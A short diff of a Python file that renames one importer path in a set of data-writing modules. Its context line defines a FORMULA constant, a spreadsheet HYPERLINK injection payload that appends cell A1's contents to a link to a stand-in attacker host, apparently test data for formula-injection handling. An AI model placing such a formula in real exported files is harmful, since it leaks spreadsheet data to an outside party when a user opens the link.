@@ -29,7 +29,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
 # The files that write tables for programs: spans, and what a source is converted to.
 OF_DATA = {
     "data/importers/phone.py",
-    "data/importers/tables.py",
+    "data/importers/table_span.py",
     "data/photos/labels_file.py",
     "data/reviews/generator.py",
     "edgeline/tables/typed_rows.py",
